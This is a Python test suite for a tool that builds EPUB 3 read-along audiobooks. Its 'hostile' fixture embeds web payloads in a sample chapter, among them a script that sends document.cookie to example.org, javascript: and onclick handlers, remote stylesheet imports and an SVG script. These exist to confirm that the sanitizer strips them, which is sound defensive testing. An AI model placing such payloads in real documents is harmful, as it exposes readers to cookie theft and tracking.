import csv
import re
import shutil
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree

from pipeline.deliver.book import FinishedBook
from pipeline.deliver.readalong import write
from pipeline.errors import BookFolderError, MasteringError
from tests.deliver import epub_books
from tests.deliver.epub_reading import Epub, epubcheck, resolved, same, seconds, text_of
from tests.deliver.producing import produced
from tests.disks import small_disk


def with_settings(book: FinishedBook, **settings: object) -> FinishedBook:
    return replace(book, settings={"epub": settings})


@pytest.fixture(scope="module")
def old_source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return epub_books.old(tmp_path_factory.mktemp("old") / "lamp.epub")


@pytest.fixture(scope="module")
def old_book(old_source: Path, tmp_path_factory: pytest.TempPathFactory) -> FinishedBook:
    return produced(old_source, tmp_path_factory.mktemp("output"), formats="m4a")


@pytest.fixture(scope="module")
def old_epub(old_book: FinishedBook) -> Path:
    (path,) = write.write(old_book)
    return path


def test_the_epub_of_a_text_passes_epubcheck(finished: FinishedBook) -> None:
    (path,) = write.write(finished)
    assert epubcheck(path) == []


def test_an_epub_2_becomes_an_epub_3_that_passes_epubcheck(old_epub: Path) -> None:
    assert epubcheck(old_epub) == []
    assert Epub(old_epub).package.get("version") == "3.0"


HOSTILE = """
<h1>第一章 雨夜</h1>
<script>fetch("http://example.org/?" + document.cookie)</script>
<p onclick="steal()" style="background: url(http://example.org/p.png); color: red">长安城下了三天的雨。林晚推开门，低声说：“你<em>终于</em>来了。”</p>
<p>“路不好走。”<img src="http://example.org/t.gif" alt=""/>老王抖了抖伞，“信在<ruby>这<rt>zhè</rt></ruby>里，一<strong>封也没丢。好。</strong>”</p>
<p><a href="javascript:steal()">灯灭了。</a><a href="http://example.org/">两个人</a>谁也没有说话&name;。</p>
<p>嗯。<br/>嗯。</p><p>嗯。</p>
<p hidden="hidden">看不见。</p>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>steal()</script><rect width="1" height="1"/></svg>
"""


@pytest.fixture(scope="module")
def hostile_source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    items = (
        '<item id="js" href="steal.js" media-type="text/javascript"/><item id="css" href="s.css" media-type="text/css"/>'
        '<item id="smil" href="old.smil" media-type="application/smil+xml"/><item id="mp3" href="old.mp3" media-type="audio/mpeg"/>'
    )
    smil = (
        '<smil xmlns="http://www.w3.org/ns/SMIL" version="3.0"><body><par><text src="one.xhtml#x"/><audio src="old.mp3"'
        ' clipBegin="0s" clipEnd="1s"/></par></body></smil>'
    )
    css = '@import url("http://example.org/a.css"); @namespace h url(http://www.w3.org/1999/xhtml); p {background: url(//example.org/b)}'
    metas = (
        '<meta property="media:duration">0:00:01</meta><meta property="media:duration" refines="#smil">0:00:01</meta>'
    )
    return epub_books.new(
        tmp_path_factory.mktemp("new") / "雨夜.epub", HOSTILE, items=items, overlay=' media-overlay="smil" properties="scripted"',
        before='<!DOCTYPE html [<!ENTITY name "ha">]>', metas=metas,
        head='<script src="steal.js"></script><link rel="stylesheet" href="s.css"/><link rel="stylesheet" href="https://example.org/x.css"/>',
        parts={"steal.js": "steal()", "s.css": css, "old.smil": smil, "old.mp3": b"x"},
    )  # fmt: skip


@pytest.fixture(scope="module")
def new_book(hostile_source: Path, tmp_path_factory: pytest.TempPathFactory) -> FinishedBook:
    return produced(hostile_source, tmp_path_factory.mktemp("output"), formats="m4a")


@pytest.fixture(scope="module")
def new_epub(new_book: FinishedBook) -> Path:
    (path,) = write.write(new_book)
    return path


def test_a_hostile_epub_3_comes_out_harmless_and_passes_epubcheck(new_epub: Path) -> None:
    opened = Epub(new_epub)
    everything = b"".join(opened.archive.read(name) for name in opened.archive.namelist() if not name.endswith(".m4a"))
    for threat in (
        b"<script",
        b"onclick",
        b"javascript",
        b"steal",
        b"example.org/a.css",
        b"t.gif",
        b"p.png",
        b"x.css",
        b"old.mp3",
    ):
        assert threat not in everything, threat
    assert b'href="http://example.org/"' in everything, "a link that people follow by hand stays"
    assert b"&amp;name;" in everything, "an entity is neither expanded nor lost"
    assert b"url(http://www.w3.org/1999/xhtml)" in everything, "a namespace is nothing to fetch"
    assert epubcheck(new_epub) == []


@pytest.mark.parametrize("which", ["old", "new"])
def test_no_documents_text_is_changed(which: str, request: pytest.FixtureRequest) -> None:
    source, made = (
        request.getfixturevalue({"old": "old_source", "new": "hostile_source"}[which]),
        Epub(request.getfixturevalue(f"{which}_epub")),
    )
    before = {one.rpartition("/")[2].split(".")[0]: root for one, _, root in Epub(source).documents()}
    after = {
        one.rpartition("/")[2].split(".")[0]: root
        for one, _, root in made.documents()
        if which == "new" or "nav" not in one
    }
    assert set(before) == set(after)
    for name, root in before.items():
        for foot in root.iter("{*}tfoot"):
            foot.getparent().append(foot)  # stands last wherever it is written
        assert text_of(after[name]).replace("&name;", "") == text_of(root), name


@pytest.mark.parametrize("which", ["old", "new"])
def test_every_line_lights_up_just_its_own_words_while_it_is_spoken(which: str, request: pytest.FixtureRequest) -> None:
    book = request.getfixturevalue(f"{which}_book")
    (path,) = write.write(with_settings(book, pauses=False))
    pars = Epub(path).pars()
    told = [(one, laid) for _, laid, _ in book.timelines() for one in laid.segments]
    assert len(pars) == len(told)
    for (_, identity, text, begin, end), (line, laid) in zip(pars, told, strict=True):
        assert same(text.replace("&name;", ""), line.text)
        assert identity.startswith(line.line_id)
        assert abs(begin - line.start / laid.sample_rate) <= 0.001
        assert abs(end - line.end / laid.sample_rate) <= 0.001


def test_a_clip_lasts_until_the_next_so_that_pauses_are_heard(finished: FinishedBook) -> None:
    (path,) = write.write(finished)
    pars = iter(Epub(path).pars())
    for _, laid, _ in finished.timelines():
        starts = [one.start / laid.sample_rate for one in laid.segments] + [laid.frames / laid.sample_rate]
        for line, start, following in zip(laid.segments, starts[:-1], starts[1:], strict=True):
            _, _, text, begin, end = next(pars)
            assert same(text, line.text)
            assert (abs(begin - start), abs(end - following)) <= (0.001, 0.001)
    assert next(pars, None) is None


@pytest.mark.parametrize("which", ["old", "new"])
def test_durations_add_up(which: str, request: pytest.FixtureRequest) -> None:
    made = Epub(request.getfixturevalue(f"{which}_epub"))
    told = {one.get("refines", "#").removeprefix("#"): seconds(one.text) for one in made.metas("media:duration")}
    total = told.pop("")
    clips = {item.get("media-overlay"): 0.0 for _, item in made.items.values() if item.get("media-overlay")}
    for name, _, _, begin, end in made.pars():
        clips[next(item.get("media-overlay") for there, item in made.items.values() if there == name)] += end - begin
    assert told == pytest.approx(clips, abs=0.001)
    assert total == pytest.approx(sum(told.values()), abs=0.001)


def test_the_package_keeps_what_it_told_and_tells_of_the_reading(old_epub: Path) -> None:
    made = Epub(old_epub)
    assert [one.text for one in made.metas("role")] == ["aut", "ill"]
    assert [one.text for one in made.metas("file-as")] == ["Roe, Jane"]
    assert made.package.xpath("//*[local-name()='date']/text()") == ["1901-02-03"]
    assert made.package.xpath("//*[local-name()='identifier']/text()") == ["http://example.org/ebooks/1"]
    assert made.metas("media:active-class")[0].text == "-epub-media-overlay-active"
    assert made.metas("media:narrator")[0].text == "an AI voice"
    assert made.items["plate"][1].get("properties") == "cover-image"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", made.metas("dcterms:modified")[0].text)
    assert [one.get("idref") for one in made.package.iter("{*}itemref")] == [
        "cover",
        "one",
        "two",
        "habits",
        "notes",
        "extra",
    ]


def test_contents_that_jump_back_are_laid_out_in_reading_order_and_the_ncx_follows_new_names(old_epub: Path) -> None:
    made = Epub(old_epub)
    nav = next(root for _, item, root in made.documents() if item.get("properties") == "nav")
    toc = next(one for one in nav.iter("{*}nav") if one.get("id") == "toc")
    assert [(one.text, one.get("href")) for one in toc.iter("{*}a")] == [
        ("The Lamp & more", "../one.xhtml#c1"), ("The Road", "../part2/two.xhtml#c2"),
    ]  # fmt: skip
    ncx = etree.fromstring(made.archive.read("OEBPS/toc.ncx"))
    assert [one.get("src") for one in ncx.iter("{*}content")] == ["part2/two.xhtml#c2", "one.xhtml#c1"]


def test_the_style_is_linked_and_has_the_active_class(new_epub: Path) -> None:
    made = Epub(new_epub)
    for name, item, root in made.documents():
        if item.get("media-overlay"):
            last = list(root.iter("{*}link"))[-1]
            assert b".-epub-media-overlay-active {" in made.archive.read(resolved(name, last.get("href")))


def test_the_archive_begins_with_its_type_and_is_the_same_every_time(finished: FinishedBook) -> None:
    (path,) = write.write(finished)
    first = path.read_bytes()
    assert first[30:58] == b"mimetypeapplication/epub+zip"
    path.unlink()
    assert write.write(finished) == [path]
    assert path.read_bytes() == first
    audio = [one for one in zipfile.ZipFile(path).infolist() if one.filename.endswith(".m4a")]
    assert [zipfile.ZipFile(path).read(one) for one in audio] == [
        one.files["m4a"].read_bytes() for one in finished.masters
    ]


def test_the_setting_chooses_mp3_and_a_narrator(finished: FinishedBook) -> None:
    (path,) = write.write(with_settings(finished, audio="mp3", narrator="林晚"))
    made = Epub(path)
    assert {
        item.get("media-type") for name, item in made.items.values() if "chapter-0" in name and "read-along" in name
    } == {"audio/mpeg"}
    assert made.metas("media:narrator")[0].text == "林晚"


def test_chapters_in_no_format_of_epubs_are_refused(finished: FinishedBook) -> None:
    flac = tuple(replace(one, files={"flac": one.files["flac"]}) for one in finished.masters)
    with pytest.raises(MasteringError, match="m4a or mp3"):
        write.write(replace(finished, masters=flac))


# --- a script that is not the manuscript's ---------------------------------------------------------------------------------


def edited(book: FinishedBook, folder: Path, change: Callable[[str], str]) -> FinishedBook:
    """The book with other texts in its timelines, as an edit of the table makes them."""
    shutil.copytree(book.folder / "chapters", folder / "chapters")
    for path in (folder / "chapters").glob("*.timeline.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.DictReader(file))
        with path.open("w", encoding="utf-8-sig", newline="") as file:
            table = csv.DictWriter(file, rows[0])
            table.writeheader()
            table.writerows({**row, "text": change(row["text"])} for row in rows)
    return replace(book, folder=folder)


def test_a_line_edited_by_hand_is_listed_and_heard_while_the_one_before_stays_lit(
    finished: FinishedBook, tmp_path: Path
) -> None:
    book = edited(finished, tmp_path, lambda text: text.replace("老王抖了抖伞，", "老王甩了甩伞，"))
    path, listed = write.write(book)
    with listed.open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["text"] == "老王甩了甩伞，"
    pars = Epub(path).pars()
    assert not any("甩" in text or "抖" in text for _, _, text, _, _ in pars)
    before = next(one for one in pars if one[2] == "“路不好走。”")
    after = pars[pars.index(before) + 1]
    assert after[2] == "“信在这里，一封也没丢。”"
    assert before[4] == after[3]


def test_a_script_of_another_text_is_refused_and_leaves_nothing(finished: FinishedBook, tmp_path: Path) -> None:
    book = edited(finished, tmp_path, lambda text: text[::-1] + "啊")
    with pytest.raises(MasteringError, match="lines are not in the manuscript"):
        write.write(book)
    assert [path.name for path in tmp_path.iterdir()] == ["chapters"]


def test_a_manuscript_that_changed_or_is_gone_is_refused(finished: FinishedBook, tmp_path: Path) -> None:
    other = tmp_path / "雨夜.txt"
    with pytest.raises(MasteringError, match="gone"):
        write.write(replace(finished, record=replace(finished.record, source=str(other))))
    other.write_text("另一本书。", encoding="utf-8")
    with pytest.raises(MasteringError, match="not what the chapters were made from"):
        write.write(replace(finished, record=replace(finished.record, source=str(other))))


def test_the_manuscript_itself_is_never_overwritten(old_book: FinishedBook, old_source: Path) -> None:
    before = old_source.read_bytes()
    with pytest.raises(MasteringError, match="take the manuscript's place"):
        write.write(replace(old_book, folder=old_source.parent, name=old_source.stem))
    assert old_source.read_bytes() == before


def test_a_full_disk_leaves_nothing_half_written(finished: FinishedBook, tmp_path: Path) -> None:
    with small_disk(tmp_path / "small", "200k") as small:
        for one in (finished.folder / "chapters").glob("*.timeline.csv"):
            shutil.copy(one, small / one.name)
        (small / "chapters").symlink_to(finished.folder / "chapters")
        with pytest.raises(BookFolderError, match="disk is full"):
            write.write(replace(finished, folder=small))
        assert not [path for path in small.iterdir() if path.name.endswith("epub")]


def test_sound_goes_through_a_small_memory(finished: FinishedBook, tmp_path: Path) -> None:
    long = tmp_path / "long.m4a"
    with long.open("wb") as file:
        file.truncate(96 << 20)
    masters = tuple(replace(one, files={"m4a": long}) for one in finished.masters)
    shutil.copytree(finished.folder / "chapters", tmp_path / "chapters")
    tracemalloc.start()
    try:
        (path,) = write.write(replace(finished, masters=masters, folder=tmp_path))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert path.stat().st_size > 190 << 20
    assert peak < 30 << 20


def test_what_html_no_longer_knows_looks_as_it_did(old_epub: Path) -> None:
    page = Epub(old_epub).archive.read("OEBPS/habits.xhtml").decode()
    for there in (
        '<h1 style="text-align: center"><a id="top">', '<span style="color: #f00; font-size: larger; font-family: Arial">',
        '<br style="clear: both"/>', '<div style="text-align: center">', "<s>struck</s>", '<a id="y"><span id="x"/>two names</a>',
        '<hr style="width: 50%; margin-left: auto; margin-right: auto"/>', '<ul style="list-style-type: square">',
        '<td style="background-color: red; height: 20px">', 'alt="" style="width: 50%; border: 0; float: left; margin-left: 4px',
        'lang="en-US"', '<p style="color: red">', "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", "<title>Title © one</title>",
    ):  # fmt: skip
        assert there in page, there
